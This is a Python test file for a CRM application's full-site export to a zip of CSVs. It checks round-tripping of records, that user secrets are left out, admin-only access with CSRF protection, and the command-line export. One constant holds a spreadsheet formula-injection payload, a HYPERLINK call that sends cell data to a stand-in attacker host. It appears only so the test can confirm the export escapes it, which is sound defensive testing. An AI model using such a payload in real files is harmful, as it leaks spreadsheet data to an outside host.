"""The full-site export (core/apps/site_export, issue 23): every module of a demo site as a
CSV the kernel's own reader takes back to the same values, the users without secrets, the
stored files, and the two ways to ask for it — Admin → Export all data and
``crbm export-site``."""
import csv
import io
import json
import zipfile

import pytest
from click.testing import CliRunner

import cli
from core.apps.site_export import export
from core.kernel.records import SYSTEM_USER, Query
from core.kernel.users import create_user
from core.testing import ADMIN_PASSWORD, signed_in
from core.web import csv_export, uploads
from tests.plugins.kitchen_sink import plugin as kitchen_sink

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.fixture
def demo(site, admin):
    """A demo site, plus a gadget with a formula for a name, a phone, a file and a photo."""
    cli.load_demo(site, admin, 2, seed=1)
    files = site.folder / "files"
    gadget = site.records.create("gadgets", {
        "name": PAYLOAD[:40], "phone": "+44 20 7946 0000", "quantity": 7, "tags": ["red", "blue"],
        "manual": uploads.store(files, "manual.txt", b"how to use it\n"),
        "photo": "gone/missing.png"}, admin)  # a key whose file is not in the store
    return gadget


def read_zip(data) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(data) if isinstance(data, bytes) else data)


def table(zf: zipfile.ZipFile, name: str) -> tuple[list[str], list[list[str]]]:
    header, *rows = list(csv.reader(io.StringIO(zf.read(name).decode("utf-8"), newline="")))
    return header, rows


def test_every_module_round_trips_through_the_kernels_csv_reader(site, demo, tmp_path):
    summary = export.export_site(site, tmp_path / "site.zip")
    zf = read_zip(tmp_path / "site.zip")
    names = set(zf.namelist())
    assert {f"modules/{m}.csv" for m in site.registry.modules} <= names
    assert summary.modules["accounts"] == 2 and summary.modules["gadgets"] == 1
    for name, module in site.registry.modules.items():
        header, rows = table(zf, f"modules/{name}.csv")
        _fields, expected = export.module_columns(module)
        assert header == expected  # field names: the importer maps them with no manual step
        assert "deleted" not in header and "version" not in header
        stored = {r["id"]: r for r in site.records.list(name, SYSTEM_USER, Query(limit=None))}
        assert sorted(r[0] for r in rows) == sorted(stored), name  # every record, once
        for cells in rows:
            values, errors = csv_export.read_cells(module, header, cells)
            assert errors == {}, (name, errors)
            record = stored[cells[0]]
            for field_name, value in values.items():
                f = module.fields[field_name]
                if f.type.widget == "file":
                    continue  # a path inside the zip (below)
                want = record.get(field_name)
                if f.type.name == "checkbox":  # an empty box is no
                    want = bool(want)
                assert value == want or (value in (None, []) and want in (None, [], "")), \
                    (name, field_name, value, want)
    manifest = json.loads(zf.read("manifest.json"))
    assert manifest["modules"] == summary.modules and manifest["format"] == 1


def test_links_names_dropdowns_dates_files_and_formulas(site, admin, demo, tmp_path):
    export.export_site(site, tmp_path / "site.zip")
    zf = read_zip(tmp_path / "site.zip")

    header, rows = table(zf, "modules/contacts.csv")
    contacts = [dict(zip(header, r, strict=True)) for r in rows]
    accounts = {r["id"]: r["name"] for r in site.records.list("accounts", admin,
                                                               Query(limit=None))}
    linked = [c for c in contacts if c["account_id"]]
    assert linked and all(c["account_id__name"] == accounts[c["account_id"]] for c in linked)
    assert {c["assigned_user_id__name"] for c in contacts} <= {"admin"} | {
        r["display_name"] or r["username"] for r in table_dicts(zf, "users.csv")}
    assert all(c["created_at"][:4].isdigit() and "T" in c["created_at"] for c in contacts)

    header, rows = table(zf, "modules/gadgets.csv")
    gadget = dict(zip(header, rows[0], strict=True))
    assert gadget["name"] == "'" + PAYLOAD[:40]  # a formula is escaped, as in every CSV
    assert gadget["phone"] == "'+44 20 7946 0000"
    assert gadget["quantity"] == "7" and gadget["tags"] == "red, blue"  # stored values
    assert gadget["kind"] == "tool"  # a dropdown's value, not its label
    path = f"files/gadgets/{demo['id']}/manual/manual.txt"
    assert gadget["manual"] == path and zf.read(path) == b"how to use it\n"
    assert gadget["photo"] == ""  # its file is gone from the store: nothing to point at

    # the demo's documents come with their files
    header, rows = table(zf, "modules/document_revisions.csv")
    revisions = [dict(zip(header, r, strict=True)) for r in rows]
    assert revisions and all(r["file"].startswith("files/document_revisions/")
                             for r in revisions)
    assert all(zf.getinfo(r["file"]).file_size > 0 for r in revisions)

    # many-to-many links and the line items travel too
    assert "links/prospect_list_contacts.csv" in zf.namelist()
    header, rows = table(zf, "tables/quotes_lines.csv")
    assert "record_id" in header and rows


def table_dicts(zf, name):
    header, rows = table(zf, name)
    return [dict(zip(header, r, strict=True)) for r in rows]


def test_users_come_without_anything_that_signs_them_in(site, admin, demo, tmp_path):
    boss = create_user(site, "boss", ADMIN_PASSWORD, display_name="The Boss")
    worker = create_user(site, "worker", ADMIN_PASSWORD)
    table_ = site.tables.tables["crbm_users"]
    with site.engine.begin() as conn:
        conn.execute(table_.update().where(table_.c.id == worker.id)
                     .values(reports_to_id=boss.id))
    export.export_site(site, tmp_path / "site.zip")
    zf = read_zip(tmp_path / "site.zip")
    text = zf.read("users.csv").decode()
    assert "password" not in text.splitlines()[0] and "$argon2" not in text
    assert "session_epoch" not in text and "preferences" not in text.splitlines()[0]
    users = {u["username"]: u for u in table_dicts(zf, "users.csv")}
    assert {"admin", "boss", "worker"} <= set(users)
    assert users["admin"]["is_admin"] == "true" and users["worker"]["is_admin"] == "false"
    assert users["worker"]["reports_to_id"] == boss.id
    assert users["worker"]["reports_to_id__name"] == "The Boss"


def test_the_admin_page_gives_the_zip_to_administrators_only(site, admin, demo):
    create_user(site, "sam", ADMIN_PASSWORD)
    with signed_in(site, "admin") as client:
        index = client.get("/admin").text
        assert 'href="/admin/export">Export all data</a>' in index
        page = client.get("/admin/export")
        assert page.status_code == 200 and 'action="/admin/export"' in page.text
        assert client.post("/admin/export", data={}).status_code == 403  # no CSRF token
        response = client.post("/admin/export", data={"_csrf": client.csrf})
        assert response.status_code == 200
        assert response.headers["content-type"] == "application/zip"
        assert response.headers["content-disposition"].startswith(
            'attachment; filename="crbm-export-')
        zf = read_zip(response.content)
        assert {f"modules/{m}.csv" for m in site.registry.modules} <= set(zf.namelist())
        assert "users.csv" in zf.namelist()
    with signed_in(site, "sam") as client:
        assert client.get("/admin/export").status_code == 403
        assert client.post("/admin/export", data={"_csrf": client.csrf}).status_code == 403


def test_the_command_line(site, demo, tmp_path, monkeypatch):
    monkeypatch.setattr(cli.main, "extra_plugins", (kitchen_sink,))
    runner = CliRunner()
    out = tmp_path / "out" / "all.zip"
    out.parent.mkdir()
    result = runner.invoke(cli.main, ["--site", str(site.folder), "export-site", str(out)])
    assert result.exit_code == 0, result.output
    assert "records of" in result.output and "gadgets" in result.output  # its progress bar
    zf = read_zip(out)
    _header, rows = table(zf, "modules/gadgets.csv")
    assert len(rows) == 1 and zf.read(f"files/gadgets/{demo['id']}/manual/manual.txt")
    assert "1 files named by records were missing" in result.output
    assert list(out.parent.iterdir()) == [out]  # no partial file left beside it

    # a folder that does not exist, and a folder that holds no site: 1, and nothing written
    result = runner.invoke(cli.main, ["--site", str(site.folder), "export-site",
                                      str(tmp_path / "nowhere" / "all.zip")])
    assert result.exit_code == 1 and "nothing was written" in result.output
    assert not (tmp_path / "nowhere").exists()
    result = runner.invoke(cli.main, ["--site", str(tmp_path / "no-site"), "export-site",
                                      str(tmp_path / "x.zip")])
    assert result.exit_code == 1 and "Error" in result.output
    assert not (tmp_path / "x.zip").exists()
